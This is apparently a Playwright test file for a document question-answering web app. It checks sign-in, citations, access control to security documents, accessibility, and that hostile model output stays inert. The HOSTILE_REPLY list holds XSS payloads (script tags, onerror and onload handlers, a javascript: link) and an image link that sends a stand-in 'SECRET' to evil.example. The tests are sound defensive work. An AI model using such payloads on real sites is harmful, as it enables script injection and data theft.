"""The page, as a person uses it, in chromium: sign-in, asking, citations, documents, hostile output, axe-core.

Every test checks what its page did: every request went to the service, no Content-Security-Policy
violation was reported, and the canary a successful injection would set (``window.__pwned``) is unset.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import httpx
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import (
    HOSTILE_TITLE,
    REPO,
    SECURITY_KEY,
    STAFF_KEY,
    Recorded,
    Service,
    assert_clean,
    open_page,
)
from tests.support.oidc_idp import IDP_WARNINGS

pytestmark = IDP_WARNINGS
DEMO_Q = "How many days do I have to submit an expense report?"
DEMO_REPLY = ["You have ", "30 days ", "to submit ", "an expense ", "report [S1]."]
HOSTILE_REPLY = [
    "Parking opens at seven [S1]. ",
    '<img src=x onerror="window.__pwned=1"> ',
    "<script>window.__pwned=1</script> ",
    "[click](javascript:window.__pwned=1) ",
    "![i](http://evil.example/i.png?d=SECRET) ",
    "[elsewhere](https://evil.example/x) ",
    '<svg onload="window.__pwned=1"><circle r="9"/></svg> ',
    "\u202edesrever\u202c ",
    "> " * 400 + "deep",
]


@pytest.fixture(autouse=True)
def _demo_reply(service: Service) -> None:
    service.llm.config.reply = list(DEMO_REPLY)
    service.llm.config.token_delay_s = 0.0


def sign_in(page: Page, key: str = STAFF_KEY) -> None:
    page.get_by_label("API key").fill(key)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_label("Question")).to_be_visible()


def ask(page: Page, question: str) -> None:
    page.get_by_label("Question").fill(question)
    page.get_by_role("button", name="Ask", exact=True).click()


def last_answer(page: Page) -> Any:
    return page.locator(".turn").last.locator(".answer")


def wait_done(page: Page) -> None:
    expect(page.locator(".answer[aria-busy]")).to_have_count(0, timeout=20_000)
    expect(page.get_by_role("status")).to_have_text("Answer complete.")


def api_citations(service: Service, question: str, key: str) -> list[dict[str, Any]]:
    r = httpx.post(f"{service.url}/v1/search", json={"query": question}, headers={"Authorization": f"Bearer {key}"})
    citations: list[dict[str, Any]] = r.json()["citations"]
    return citations


def test_sign_in_with_a_key_ask_and_check_the_quote(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    service.llm.config.token_delay_s = 0.4  # about two seconds of generation
    ask(page, DEMO_Q)
    answer = last_answer(page)
    # The first words are on the page while the LLM is still writing.
    expect(answer).to_contain_text("You have", timeout=10_000)
    assert answer.get_attribute("aria-busy") == "true"
    assert "report" not in answer.inner_text()
    wait_done(page)
    expect(answer).to_contain_text("You have 30 days to submit an expense report")
    cite = answer.get_by_role("button", name=re.compile(r"^S1\b"))
    expect(cite).to_have_count(1)
    cite.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    expected = next(c for c in api_citations(service, DEMO_Q, STAFF_KEY) if c["source"].endswith("expenses.txt"))
    mark = dialog.locator("mark")
    expect(mark).to_have_count(1)
    assert mark.inner_text() == expected["snippet"]
    expect(dialog).to_contain_text("Travel and Expense Policy")
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(cite).to_be_focused()  # focus goes back where it was


def test_a_follow_up_keeps_its_subject_and_new_conversation_clears_it(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    ask(page, DEMO_Q)
    wait_done(page)

    def reply(messages: list[dict[str, Any]]) -> list[str]:
        if "Standalone question:" in messages[-1]["content"]:
            return ["Who approves expense claims above 1,000 euros?"]
        return ["The finance controller [S1]."]

    service.llm.config.reply = reply
    ask(page, "And above 1,000 euros?")
    wait_done(page)
    bodies = [json.loads(b) for u, b in tab.bodies if u.endswith("/v1/query") and b]
    assert bodies[-1]["history"] == [
        {"role": "user", "content": DEMO_Q},
        {"role": "assistant", "content": "You have 30 days to submit an expense report [S1]."},
    ]
    sources = page.locator(".turn").last.get_by_role("list", name="Sources")
    expect(sources).to_contain_text("Travel and Expense Policy")
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".turn")).to_have_count(0)
    service.llm.config.reply = list(DEMO_REPLY)
    ask(page, DEMO_Q)
    wait_done(page)
    bodies = [json.loads(b) for u, b in tab.bodies if u.endswith("/v1/query") and b]
    assert bodies[-1]["history"] == []


def test_sign_out_and_an_expired_session_keep_what_was_typed(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    ask(page, DEMO_Q)
    wait_done(page)
    tab.context.clear_cookies()  # the session is gone (expired, or its key removed)
    ask(page, "What is the meal allowance?")
    expect(page.get_by_label("API key")).to_be_visible()
    expect(page.get_by_role("alert")).to_contain_text("Sign in again")
    sign_in(page)
    expect(page.get_by_label("Question")).to_have_value("What is the meal allowance?")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("API key")).to_be_visible()
    expect(page.locator(".turn")).to_have_count(0)
    assert page.evaluate("fetch('/ui/session').then(r => r.json()).then(j => j.signed_in)") is False


def test_a_staff_user_never_sees_a_security_document(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    service.llm.config.reply = ["See the incident process [S1]."]
    ask(page, "What do I do when a security incident happens?")
    wait_done(page)
    turn = page.locator(".turn").last
    for shown in (turn.inner_text(), *turn.get_by_role("button").all_inner_texts()):
        assert "Incident Response Runbook" not in shown and "Data Classification" not in shown
    page.get_by_role("button", name="Documents", exact=True).click()
    rows = page.locator("#docs-rows tr")
    expect(rows.first).to_be_visible()
    listed = " ".join(rows.all_inner_texts())
    assert "expenses.txt" in listed and "faq.md" in listed
    assert "incident-response" not in listed and "data-classification" not in listed
    # A crafted passage URL for a security document: the same 404 as a missing one.
    secret_docs = httpx.get(f"{service.url}/v1/documents", headers={"Authorization": f"Bearer {SECURITY_KEY}"})
    secret_id = next(d["doc_id"] for d in secret_docs.json()["documents"] if "incident" in d["source"])
    crafted = page.request.get(f"{service.url}/v1/passages/{secret_id}/0")
    missing = page.request.get(f"{service.url}/v1/passages/{'0' * len(secret_id)}/0")
    assert crafted.status == missing.status == 404
    assert crafted.json()["error"]["message"] == missing.json()["error"]["message"]


def test_the_document_list_filters_by_title(tab: Recorded) -> None:
    page = tab.page
    sign_in(page)
    page.get_by_role("button", name="Documents", exact=True).click()
    page.get_by_label("Filter by title").fill("expense")
    page.get_by_role("button", name="Filter").click()
    expect(page.locator("#docs-rows tr")).to_have_count(1)
    expect(page.locator("#docs-rows")).to_contain_text("Travel and Expense Policy")


def test_hostile_answers_and_titles_stay_inert_text(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    service.llm.config.reply = list(HOSTILE_REPLY)
    ask(page, "When does the parking garage open?")
    wait_done(page)
    answer = last_answer(page)
    expect(answer).to_contain_text("Parking opens at seven")
    assert answer.locator("img, script, svg, iframe").count() == 0
    for link in answer.locator("a").all():
        assert link.get_attribute("href") is None  # no host is allowlisted: no link leads anywhere
    sources = page.locator(".turn").last.get_by_role("list", name="Sources")
    expect(sources).to_contain_text("Parking")
    page.locator(".turn").last.get_by_role("button", name=re.compile(r"^S1\b")).first.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text("parking garage opens at seven")
    assert dialog.locator("img, script, svg").count() == 0
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Documents", exact=True).click()
    expect(page.locator("#docs-rows")).to_contain_text("Parking")
    assert page.locator("#docs-rows img").count() == 0
    page.wait_for_timeout(300)  # an onerror or a blocked load would have fired by now
    assert "evil.example" not in " ".join(tab.requests)
    assert HOSTILE_TITLE  # the corpus holds it (conftest)


@pytest.mark.parametrize("width", [1280, 320])
def test_keyboard_only_at_every_width(browser: Browser, service: Service, width: int) -> None:
    tab = open_page(browser, service, width=width)
    try:
        page = tab.page
        expect(page.get_by_label("API key")).to_be_focused()  # the page puts the cursor where to start
        page.keyboard.type(STAFF_KEY)
        page.keyboard.press("Enter")
        expect(page.get_by_label("Question")).to_be_focused()
        page.keyboard.type(DEMO_Q)
        page.keyboard.press("Control+Enter")
        wait_done(page)
        page.keyboard.press("Shift+Tab")  # back from the question into the answer's controls
        for _ in range(12):
            focused = page.evaluate("document.activeElement.textContent")
            if focused.startswith("S1"):
                break
            page.keyboard.press("Shift+Tab")
        page.keyboard.press("Enter")
        expect(page.get_by_role("dialog").locator("mark")).to_have_count(1)
        shots = os.environ.get("UI_SCREENSHOTS_DIR")  # how docs/img/ui-*.png are made
        if shots:
            page.screenshot(path=str(Path(shots) / f"ui-{width}.png"))
        page.keyboard.press("Escape")
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert_clean(tab, service)
    finally:
        tab.context.close()


def test_sign_in_with_oidc_and_pkce(tab: Recorded, service: Service) -> None:
    page = tab.page
    page.get_by_role("link", name="Sign in with single sign-on").click()
    page.wait_for_url(re.compile(re.escape(service.idp.issuer)))
    page.locator("input[name=sub]").fill("ann")
    page.get_by_role("button", name="Authorize").click()
    page.wait_for_url(service.url + "/")
    expect(page.get_by_label("Question")).to_be_visible()
    expect(page.locator("#who")).to_have_text("jwt:ann")
    ask(page, DEMO_Q)
    wait_done(page)
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("API key")).to_be_visible()


def _serious(page: Page) -> list[str]:
    results = Axe().run(page)
    return [
        f"{v['id']} ({v['impact']}): {v['help']}"
        for v in results.response["violations"]
        if v.get("impact") in ("serious", "critical")
    ]


def test_axe_finds_no_serious_violation_on_any_view(browser: Browser, service: Service) -> None:
    # axe injects its own script: its context may bypass the CSP (the other tests count violations).
    tab = open_page(browser, service, bypass_csp=True)
    try:
        page = tab.page
        expect(page.get_by_label("API key")).to_be_visible()
        found = {"sign-in": _serious(page)}
        sign_in(page)
        ask(page, DEMO_Q)
        wait_done(page)
        found["answer"] = _serious(page)
        last_answer(page).get_by_role("button", name=re.compile(r"^S1\b")).click()
        found["passage"] = _serious(page)
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Documents", exact=True).click()
        expect(page.locator("#docs-rows tr").first).to_be_visible()
        found["documents"] = _serious(page)
        for media in ("dark", "light"):
            page.emulate_media(color_scheme=media)
            found[f"documents-{media}"] = _serious(page)
        assert found == {k: [] for k in found}
    finally:
        tab.context.close()


def test_screenshots_are_in_the_docs() -> None:
    for name in ("ui-1280.png", "ui-320.png"):
        assert (REPO / "docs" / "img" / name).stat().st_size > 1000
    assert "docs/img/ui-1280.png" in (REPO / "README.md").read_text()


def test_a_busy_language_model_is_a_sentence_and_the_question_stays(tab: Recorded, service: Service) -> None:
    page = tab.page
    sign_in(page)
    service.llm.config.fail_statuses = [503] * 3  # the first try and both retries
    service.llm.config.retry_after = "7"
    try:
        ask(page, DEMO_Q)
        expect(page.get_by_role("status")).to_have_text(re.compile(r"The service is busy\. Try again in \d+ seconds\."))
        expect(page.get_by_label("Question")).to_have_value(DEMO_Q)
        expect(page.locator(".turn")).to_have_count(0)
    finally:
        service.llm.config.fail_statuses = []
        service.llm.config.retry_after = None
